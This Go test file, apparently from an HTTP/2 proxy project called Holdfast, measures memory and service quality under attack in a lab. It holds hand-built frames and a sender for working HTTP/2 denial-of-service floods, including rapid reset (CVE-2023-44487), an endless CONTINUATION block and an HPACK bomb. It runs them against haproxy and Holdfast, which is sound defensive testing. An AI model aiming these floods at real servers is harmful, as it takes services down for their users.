//go:build lab

package lab_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-edge/holdfast/sim/lab"
)

// Frames of HTTP/2 (RFC 9113 section 6).
const (
	frameData         = 0
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameContinuation = 9
)

func frame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	b = append(b, byte(stream>>24), byte(stream>>16), byte(stream>>8), byte(stream))
	return append(b, payload...)
}

// floods are what one HTTP/2 connection sends without end; n counts up.
var floods = map[string]func(b []byte, n uint32) []byte{
	// CVE-2023-44487: streams opened and reset at once.
	"rapid reset": func(b []byte, n uint32) []byte {
		b = frame(b, frameHeaders, 5, 2*n+1, append([]byte{0x82, 0x86, 0x41, 1, 'x', 0x04, 4}, "/10m"...))
		return frame(b, frameReset, 0, 2*n+1, []byte{0, 0, 0, 8})
	},
	// CVE-2024-27316 and others: a header block that never ends.
	"CONTINUATION without end": func(b []byte, n uint32) []byte {
		if n == 0 {
			return frame(b, frameHeaders, 0, 1, []byte{0x82, 0x86, 0x84})
		}
		return frame(b, frameContinuation, 0, 1, append([]byte{0x00, 1, 'x', 0x7f, 0x81, 0x1f}, strings.Repeat("a", 0x7f+0xf81)...))
	},
	// A 4,000-byte header put into the table once, then named 4,000 times a
	// request: 16 MB of headers in 4 kB.
	"HPACK bomb": func(b []byte, n uint32) []byte {
		block := []byte{0x82, 0x86, 0x84, 0x41, 1, 'x'}
		if n == 0 {
			block = append(block, append([]byte{0x40, 1, 'x', 0x7f, 0xa1, 0x1e}, strings.Repeat("a", 0x7f+0x21+(0x1e<<7))...)...)
		}
		for range 4000 {
			block = append(block, 0xbe)
		}
		return frame(b, frameHeaders, 5, 2*n+1, block)
	},
	"PING flood":     func(b []byte, n uint32) []byte { return frame(b, framePing, 0, 0, make([]byte, 8)) },
	"SETTINGS flood": func(b []byte, n uint32) []byte { return frame(b, frameSettings, 0, 0, nil) },
	"empty DATA flood": func(b []byte, n uint32) []byte {
		if n == 0 {
			return frame(b, frameHeaders, 4, 1, append([]byte{0x83, 0x86, 0x41, 1, 'x', 0x04, 5}, "/seen"...))
		}
		return frame(b, frameData, 0, 1, nil)
	},
}

// floodFor is how long a flood lasts, unless it is ended.
const floodFor = 2 * time.Second

// flood sends one of the floods and prints how it ended. It does not read: the
// answers to a flood of questions are a flood themselves.
func flood(address string) error {
	c, err := net.DialTimeout("tcp", address, 2*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(floodFor))
	if _, err := c.Write(frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frameSettings, 0, 0, nil)); err != nil {
		return err
	}
	make := floods[os.Getenv("HOLDFAST_LAB_FLOOD")]
	began, sent := time.Now(), 0
	for n := uint32(0); ; {
		var b []byte
		for range 100 {
			b = make(b, n)
			n++
		}
		k, err := c.Write(b)
		sent += k
		var ne net.Error
		if errors.As(err, &ne) && ne.Timeout() {
			fmt.Printf("endured %d\n", sent>>10)
			return nil
		}
		if err != nil {
			fmt.Printf("ended %d %.1f\n", sent>>10, time.Since(began).Seconds())
			return nil
		}
	}
}

// TestFloodsAsHaproxy: an HTTP/2 client that floods costs Holdfast bounded
// memory, and others are served meanwhile.
func TestFloodsAsHaproxy(t *testing.T) {
	s := stage(t)
	theirs, ours, processes := bothWays(t, s, "5s")
	var table strings.Builder
	fmt.Fprintf(&table, "| %-25s | %-38s | %-38s |\n|---|---|---|\n", "HTTP/2 flood of 2 s", "haproxy", "holdfast")
	for _, name := range []string{"rapid reset", "CONTINUATION without end", "HPACK bomb", "PING flood", "SETTINGS flood", "empty DATA flood"} {
		one := func(address string, p *lab.Process) (string, int) {
			before := resident(t, p.PID())
			cpu, _ := p.CPU()
			ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
			defer cancel()
			out, do := role(ctx, s.Client, "flood", address, "HOLDFAST_LAB_FLOOD="+name)
			done := make(chan error, 1)
			go func() { done <- do("") }()
			slowest, most := time.Duration(0), 0
			for {
				began := time.Now()
				if body, err := s.Client.Run(ctx, "curl", "-s", "--max-time", "5", "http://"+address+"/"); err != nil || !strings.Contains(body, "server 8001") {
					t.Errorf("%s: another client of %s got %q, %v", name, address, body, err)
				}
				slowest, most = max(slowest, time.Since(began)), max(most, resident(t, p.PID())-before)
				select {
				case err := <-done:
					if err != nil {
						t.Errorf("%s: %v: %s", name, err, out)
					}
					after, _ := p.CPU()
					return fmt.Sprintf("%s KiB, +%d MiB, cpu %.1fs, user %dms", strings.TrimSpace(out.String()), most>>20, (after - cpu).Seconds(), slowest.Milliseconds()), most
				default:
				}
			}
		}
		their, _ := one(theirs, processes[0])
		our, grew := one(ours, processes[1])
		fmt.Fprintf(&table, "| %-25s | %-38s | %-38s |\n", name, their, our)
		if grew > 64<<20 {
			t.Errorf("%s: Holdfast grew by %d MiB", name, grew>>20)
		}
	}
	t.Logf("\n%s", &table)
}
